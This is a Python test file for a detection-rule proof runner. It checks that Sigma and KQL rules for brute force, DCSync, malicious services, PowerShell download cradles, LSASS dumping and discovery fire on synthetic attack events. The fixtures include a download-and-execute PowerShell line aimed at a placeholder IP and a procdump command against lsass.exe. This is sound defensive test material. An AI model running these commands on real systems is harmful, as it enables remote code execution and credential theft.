"""The proof runner on the new telemetry: Sigma rules over Security/System/PowerShell channels, KQL over
DeviceLogonEvents and DeviceEvents, and Sigma correlation rules judged at the edges of their window."""

from __future__ import annotations

from typing import Any

from assay.verify.runner import RunOptions, run_paths
from tests.verify.conftest import HOST, USER, WriteDetection

DC = {"name": "DC01", "domain": "corp.contoso.com", "ip": "10.31.0.10"}
VICTIM = {"domain": "CONTOSO", "name": "j.doe", "sid": "S-1-5-21-1004336348-1177238915-682003330-3301"}

BRUTE_FORCE_SIGMA = """\
title: Failed network logon
id: 5a1d1b7e-3c2f-4c55-8f0b-1f4b9f6a0c11
name: failed_network_logon
status: test
description: A network logon failed because of a bad password.
author: Assay tests
date: 2026-12-06
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
        LogonType: 3
    condition: selection
level: low
---
title: Many failed network logons from one address
id: 7f0e2c4a-9b61-4f7e-a1d3-2b5c8e9f0a22
status: test
description: Five or more failed network logons from one source address within five minutes.
author: Assay tests
date: 2026-12-06
tags:
    - attack.credential-access
    - attack.t1110.001
correlation:
    type: event_count
    rules:
        - failed_network_logon
    group-by:
        - IpAddress
    timespan: 5m
    condition:
        gte: 5
level: medium
"""

BRUTE_FORCE_KQL = """\
DeviceLogonEvents
| where Timestamp > ago(1h)
| where ActionType == "LogonFailed" and LogonType == "Network"
| summarize Failures = count(), First = min(Timestamp), Last = max(Timestamp) by RemoteIP, bin(Timestamp, 5m)
| where Failures >= 5
"""


def burst(scenario_id: str, kind: str, count: int, every: float, fires: bool) -> dict[str, Any]:
    outcome = "fires" if fires else "does-not-fire"
    return {
        "id": scenario_id, "title": f"{count} failed logons {every}s apart", "kind": kind,
        "provenance": {"own": "edges of the window"},
        "expected": {"sigma": outcome, "kql": outcome, "converted": outcome},
        "activity": {
            "host": DC, "user": USER, "start": "2026-10-02T14:00:30Z",
            "logons": [{"user": VICTIM, "type": "network", "outcome": "failure", "source_ip": "10.9.9.9",
                        "count": count, "every_seconds": every}],
        },
    }


def test_a_correlation_rule_fires_at_the_threshold_and_not_below_or_spread_out(
        write_detection: WriteDetection) -> None:
    folder = write_detection(
        "T1110.001-bruteforce", sigma=BRUTE_FORCE_SIGMA, kql=BRUTE_FORCE_KQL, technique="T1110.001",
        scenarios=[burst("own-five-in-a-minute", "attack", 5, 10, True),
                   burst("own-four-in-a-minute", "benign", 4, 10, False),
                   burst("own-five-spread-over-an-hour", "benign", 5, 600, False)])
    report = run_paths([folder])
    detection = report.detections[0]
    assert not detection.errors, detection.errors
    for scenario in detection.scenarios:
        for result in scenario.results:
            if result.form == "converted:microsoft-xdr":
                # pySigma's Kusto backend has no correlation support: the form is reported as not existing.
                assert result.status == "skip" and "correlation" in result.reason
                continue
            # The SQLite conversion (pySigma's sqlite backend windows on the events' timestamp) proves it too.
            assert result.status == "pass", (scenario.id, result.key, result.reason)
    assert detection.proof_status == "proven" and "converted:microsoft-xdr" not in detection.available_forms
    assert "converted:sqlite" in detection.available_forms
    fired = next(s for s in detection.scenarios if s.id == "own-five-in-a-minute")
    sigma = next(r for r in fired.results if r.form == "sigma")
    assert sigma.telemetry == "security" and sigma.row_count == 1
    assert "IpAddress=10.9.9.9" in str(sigma.evidence[0])


SERVICE_SIGMA = """\
title: Service installed from a user-writable folder
id: 1c2b3a4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d
status: test
description: A new service whose image lives in C:\\Users.
author: Assay tests
date: 2026-12-06
tags:
    - attack.persistence
    - attack.t1543.003
logsource:
    product: windows
    service: system
detection:
    selection:
        Provider_Name: Service Control Manager
        EventID: 7045
        ImagePath|contains: '\\Users\\'
    condition: selection
level: high
"""

SERVICE_KQL = """\
DeviceEvents
| where Timestamp > ago(1h)
| where ActionType == "ServiceInstalled" and FolderPath contains @"\\Users\\"
| project Timestamp, DeviceName, FolderPath, ServiceName = tostring(AdditionalFields.ServiceName)
"""


def service_scenario(scenario_id: str, kind: str, image: str) -> dict[str, Any]:
    outcome = "fires" if kind == "attack" else "does-not-fire"
    return {
        "id": scenario_id, "title": f"service {image}", "kind": kind, "provenance": {"own": "service"},
        "expected": {"sigma": outcome, "kql": outcome},
        "activity": {
            "host": HOST, "user": USER, "start": "2026-10-02T14:00:30Z",
            "processes": [{"id": "sc", "image": "C:\\Windows\\System32\\sc.exe",
                           "command_line": f'sc.exe create upd binPath= "{image}"',
                           "parent_image": "C:\\Windows\\System32\\cmd.exe", "parent_command_line": "cmd.exe"}],
            "services": [{"name": "upd", "image_path": image, "start_type": "auto", "process": "sc"}],
        },
    }


def test_a_system_channel_rule_and_a_device_events_query_run_on_their_telemetry(
        write_detection: WriteDetection) -> None:
    folder = write_detection(
        "T1543.003-service", sigma=SERVICE_SIGMA, kql=SERVICE_KQL, technique="T1543.003",
        scenarios=[service_scenario("own-public-service", "attack", "C:\\Users\\Public\\svc.exe"),
                   service_scenario("own-program-files-service", "benign",
                                    "C:\\Program Files\\Vendor\\agent.exe")],
        required_tables=["DeviceEvents"])
    report = run_paths([folder])
    detection = report.detections[0]
    assert not detection.errors, detection.errors
    for scenario in detection.scenarios:
        for result in scenario.results:
            if result.form in ("converted:microsoft-xdr", "converted:sentinel-securityevent"):
                # Neither Defender nor Sentinel's SecurityEvent holds System 7045: no KQL conversion exists.
                assert result.status == "skip" and "cannot express" in result.reason, result.reason
                continue
            assert result.status == "pass", (scenario.id, result.key, result.reason)
    assert detection.available_forms == ["sigma", "kql", "converted:sqlite"]
    assert detection.proof_status == "proven"
    attack = detection.scenarios[0]
    sigma = [r for r in attack.results if r.form == "sigma"]
    assert [r.telemetry for r in sigma] == ["windows"] and sigma[0].key == "sigma[system:7045]"


def test_lint_accepts_a_correlation_rule_with_the_rules_it_references(write_detection: WriteDetection) -> None:
    from assay.catalog.lint import lint_catalog

    folder = write_detection(
        "T1110.001-bruteforce", sigma=BRUTE_FORCE_SIGMA, kql=BRUTE_FORCE_KQL, technique="T1110.001",
        scenarios=[burst("own-five-in-a-minute", "attack", 5, 10, True),
                   burst("own-four-in-a-minute", "benign", 4, 10, False)])
    report = lint_catalog(folder, shared=folder)
    sigma_issues = [i for i in report.issues if i.code.startswith("sigma")]
    assert not [i for i in sigma_issues if i.severity == "error"], [i.message for i in sigma_issues]
    stray = BRUTE_FORCE_SIGMA.replace("---\n", "---\ntitle: Stray\nid: 0b6f1c64-0d8e-4f3b-9a55-5e7c0f6d1e33\n"
                                      "logsource: {product: windows, service: security}\n"
                                      "detection: {s: {EventID: 4624}, condition: s}\n---\n", 1)
    (folder / "rule.sigma.yml").write_text(stray, encoding="utf-8")
    from assay.catalog import clear_cache

    clear_cache()
    report = lint_catalog(folder, shared=folder)
    assert any("does not reference" in i.message for i in report.issues)


DCSYNC_SIGMA = """\
title: Directory replication requested by an account
id: 3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a
status: test
description: An account asked a domain controller for replication rights (DS-Replication-Get-Changes).
author: Assay tests
date: 2026-12-06
tags:
    - attack.credential-access
    - attack.t1003.006
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4662
        AccessMask: '0x100'
        Properties|contains: '1131f6aa-9c07-11d1-f79f-00c04fc2dcd2'
    condition: selection
level: high
"""

DCSYNC_KQL = """\
SecurityEvent
| where TimeGenerated > ago(1h)
| where EventID == 4662 and AccessMask == "0x100"
| where Properties has "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"
| project TimeGenerated, Computer, SubjectUserName, Properties
"""


def test_a_security_rule_runs_on_synthesized_4662_and_on_a_real_recording(write_detection: WriteDetection,
                                                                          shared_data: Any) -> None:
    def scenario(scenario_id: str, kind: str, **access: Any) -> dict[str, Any]:
        outcome = "fires" if kind == "attack" else "does-not-fire"
        return {"id": scenario_id, "title": scenario_id, "kind": kind, "provenance": {"own": "dcsync"},
                "expected": {"sigma": outcome, "kql": outcome},
                "activity": {"host": DC, "user": VICTIM, "start": "2026-10-02T14:00:30Z",
                             "directory_access": [access]}}

    recording = "evtx-attack-samples/Credential Access/CA_DCSync_4662.evtx"
    folder = write_detection(
        "T1003.006-dcsync", sigma=DCSYNC_SIGMA, kql=DCSYNC_KQL, technique="T1003.006",
        required_tables=["SecurityEvent"],
        scenarios=[scenario("own-dcsync", "attack", replication=True),
                   scenario("own-read-property", "benign", access_mask="0x10",
                            properties=["bf967a86-0de6-11d0-a285-00aa003049e2"]),
                   {"id": "rec-dcsync", "title": "DCSync recording", "kind": "attack",
                    "provenance": {"recording": {"path": recording}},
                    "expected": {"sigma": "fires", "kql": "fires"}}])
    report = run_paths([folder], RunOptions(shared_data=shared_data))
    detection = report.detections[0]
    assert not detection.errors, detection.errors
    # No Defender table holds 4662: the converted form is pySigma's Sentinel SecurityEvent query, run on the
    # Security telemetry (and on the recording).
    assert detection.available_forms == ["sigma", "kql", "converted:sqlite", "converted:sentinel-securityevent"]
    assert detection.proof_status == "proven"
    for scenario_result in detection.scenarios:
        for result in scenario_result.results:
            if result.form == "converted:microsoft-xdr":
                assert result.status == "skip" and "cannot express" in result.reason
                continue
            assert result.status == "pass", (scenario_result.id, result.key, result.reason)
    by_id = {s.id: s for s in detection.scenarios}
    assert {r.telemetry for r in by_id["rec-dcsync"].results if r.status != "skip"} == {"recording"}
    assert {r.key for r in by_id["own-dcsync"].results} == {"sigma[security:4662]", "kql", "converted:sqlite",
                                                            "converted:microsoft-xdr",
                                                            "converted:sentinel-securityevent"}


PS_SCRIPT_SIGMA = """\
title: Script block downloads and runs code
id: 4e5d6c7b-8a9f-4b0c-9d1e-2f3a4b5c6d7e
status: test
description: A PowerShell script block that downloads a string and evaluates it.
author: Assay tests
date: 2026-12-06
tags:
    - attack.execution
    - attack.t1059.001
logsource:
    product: windows
    category: ps_script
detection:
    selection:
        ScriptBlockText|contains|all:
            - 'DownloadString'
            - 'IEX'
    condition: selection
level: high
"""

PS_SCRIPT_KQL = """\
DeviceEvents
| where Timestamp > ago(1h)
| where ActionType == "PowerShellCommand"
| where tostring(AdditionalFields.Command) == "Invoke-Expression"
| join kind=inner (DeviceEvents | where ActionType == "PowerShellCommand"
    | where tostring(AdditionalFields.Command) == "New-Object" | project DeviceId, InitiatingProcessId) on DeviceId,
    InitiatingProcessId
| project Timestamp, DeviceName, InitiatingProcessCommandLine
"""

LSASS_SIGMA = """\
title: LSASS opened for reading memory
id: 5f6e7d8c-9b0a-4c1d-8e2f-3a4b5c6d7e8f
status: test
description: A process opened lsass.exe with the rights a memory dump needs.
author: Assay tests
date: 2026-12-06
tags:
    - attack.credential-access
    - attack.t1003.001
logsource:
    product: windows
    category: process_access
detection:
    selection:
        TargetImage|endswith: '\\\\lsass.exe'
        GrantedAccess|endswith: ['10', '1fffff', '1410']
    condition: selection
level: high
"""

LSASS_KQL = """\
DeviceEvents
| where Timestamp > ago(1h)
| where ActionType == "OpenProcessApiCall" and FileName =~ "lsass.exe"
| where binary_and(toint(AdditionalFields.DesiredAccess), 0x10) == 0x10
| project Timestamp, DeviceName, InitiatingProcessFileName, InitiatingProcessCommandLine
"""


def _powershell_scenario(scenario_id: str, kind: str, script: str) -> dict[str, Any]:
    outcome = "fires" if kind == "attack" else "does-not-fire"
    return {"id": scenario_id, "title": scenario_id, "kind": kind, "provenance": {"own": "powershell"},
            "expected": {"sigma": outcome, "kql": outcome},
            "activity": {"host": HOST, "user": USER, "start": "2026-10-02T14:00:30Z",
                         "processes": [{"id": "ps", "image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
                                                            "powershell.exe",
                                        "command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA",
                                        "parent_image": "C:\\Windows\\explorer.exe",
                                        "parent_command_line": "C:\\Windows\\Explorer.EXE"}],
                         "powershell": [{"process": "ps", "script": script}]}}


def _lsass_scenario(scenario_id: str, kind: str, access: str) -> dict[str, Any]:
    outcome = "fires" if kind == "attack" else "does-not-fire"
    return {"id": scenario_id, "title": scenario_id, "kind": kind, "provenance": {"own": "lsass"},
            "expected": {"sigma": outcome, "kql": outcome},
            "activity": {"host": HOST, "user": USER, "start": "2026-10-02T14:00:30Z",
                         "processes": [{"id": "dumper", "image": "C:\\Users\\Public\\pd64.exe",
                                        "original_file_name": "procdump", "integrity": "High", "elevated": True,
                                        "command_line": "pd64.exe -accepteula -ma lsass.exe out.dmp",
                                        "parent_image": "C:\\Windows\\System32\\cmd.exe",
                                        "parent_command_line": "cmd.exe"}],
                         "process_access": [{"process": "dumper", "granted_access": access}]}}


def test_script_block_and_process_access_rules_run_on_their_telemetry(write_detection: WriteDetection) -> None:
    cases = [
        ("T1059.001-cradle", PS_SCRIPT_SIGMA, PS_SCRIPT_KQL, "T1059.001", "powershell:4104", "windows",
         [_powershell_scenario("own-cradle", "attack",
                               "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
          _powershell_scenario("own-get-date", "benign", "Get-Date | Out-File C:\\Temp\\now.txt")]),
        ("T1003.001-lsass", LSASS_SIGMA, LSASS_KQL, "T1003.001", "sysmon:10", "sysmon",
         [_lsass_scenario("own-procdump", "attack", "0x1FFFFF"),
          _lsass_scenario("own-query-limited", "benign", "0x1000")]),
    ]
    for name, sigma, kql, technique, route, telemetry, scenarios in cases:
        folder = write_detection(name, sigma=sigma, kql=kql, technique=technique, scenarios=scenarios,
                                 required_tables=["DeviceEvents"])
        detection = run_paths([folder]).detections[0]
        assert not detection.errors, detection.errors
        for scenario_result in detection.scenarios:
            for result in scenario_result.results:
                if result.form.startswith("converted"):
                    assert result.status in ("pass", "skip"), (name, result.key, result.reason)
                    continue
                assert result.status == "pass", (name, scenario_result.id, result.key, result.reason)
        sigma_results = [r for r in detection.scenarios[0].results if r.form == "sigma"]
        assert [(r.route, r.telemetry) for r in sigma_results] == [(route, telemetry)], name


DISCOVERY_SIGMA = """\
title: Discovery tool
id: 6a7b8c9d-0e1f-4a2b-9c3d-4e5f6a7b8c9d
name: discovery_tool
status: test
description: A built-in discovery tool ran.
author: Assay tests
date: 2026-12-06
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: ['\\\\whoami.exe', '\\\\nltest.exe', '\\\\net.exe', '\\\\systeminfo.exe']
    condition: selection
level: low
---
title: Several discovery tools by one user
id: 7b8c9d0e-1f2a-4b3c-8d4e-5f6a7b8c9d0e
status: test
description: Three different discovery tools run by one user within five minutes.
author: Assay tests
date: 2026-12-06
tags:
    - attack.discovery
    - attack.t1033
correlation:
    type: value_count
    rules:
        - discovery_tool
    group-by:
        - User
    timespan: 5m
    condition:
        field: Image
        gte: 3
level: medium
"""

DISCOVERY_KQL = """\
DeviceProcessEvents
| where Timestamp > ago(1h)
| where FileName in~ ("whoami.exe", "nltest.exe", "net.exe", "systeminfo.exe")
| summarize Tools = dcount(FileName) by AccountName, bin(Timestamp, 5m)
| where Tools >= 3
"""


def _discovery(scenario_id: str, kind: str, tools: list[str]) -> dict[str, Any]:
    outcome = "fires" if kind == "attack" else "does-not-fire"
    processes = [{"id": "cmd", "image": "C:\\Windows\\System32\\cmd.exe", "command_line": "cmd.exe",
                  "parent_image": "C:\\Windows\\explorer.exe", "parent_command_line": "explorer.exe"}]
    processes += [{"id": tool, "image": f"C:\\Windows\\System32\\{tool}.exe", "command_line": f"{tool}.exe",
                   "parent": "cmd", "after_seconds": 5 + 10 * index} for index, tool in enumerate(tools)]
    return {"id": scenario_id, "title": scenario_id, "kind": kind, "provenance": {"own": "discovery"},
            "expected": {"sigma": outcome, "kql": outcome},
            "activity": {"host": HOST, "user": USER, "start": "2026-10-02T14:00:30Z", "processes": processes}}


def test_a_correlation_grouped_by_a_field_a_route_lacks_is_not_judged_there(write_detection: WriteDetection) -> None:
    folder = write_detection(
        "T1033-discovery", sigma=DISCOVERY_SIGMA, kql=DISCOVERY_KQL, technique="T1033",
        scenarios=[_discovery("own-three-tools", "attack", ["whoami", "nltest", "systeminfo"]),
                   _discovery("own-two-tools", "benign", ["whoami", "net"])])
    detection = run_paths([folder], RunOptions(forms=("sigma", "kql"))).detections[0]
    assert not detection.errors, detection.errors
    for scenario_result in detection.scenarios:
        by_key = {r.key: r for r in scenario_result.results}
        # Security 4688 has no User field (its subject is the creator's account): no grouping, so no verdict.
        security = by_key["sigma[correlation:security:4688]"]
        assert security.status == "skip" and security.missing_fields == ["User"], security.reason
        sysmon = by_key["sigma[correlation:sysmon:1]"]
        assert sysmon.status == "pass", sysmon.reason
        # Each process counted once (its copy mapped into DeviceProcessEvents is judged on its own).
        tools = 3 if scenario_result.id == "own-three-tools" else 2
        assert f"{tools} event(s) matched" in sysmon.reason, sysmon.reason
        assert by_key["sigma[correlation:DeviceProcessEvents]"].status == "pass"
        assert by_key["kql"].status == "pass", by_key["kql"].reason
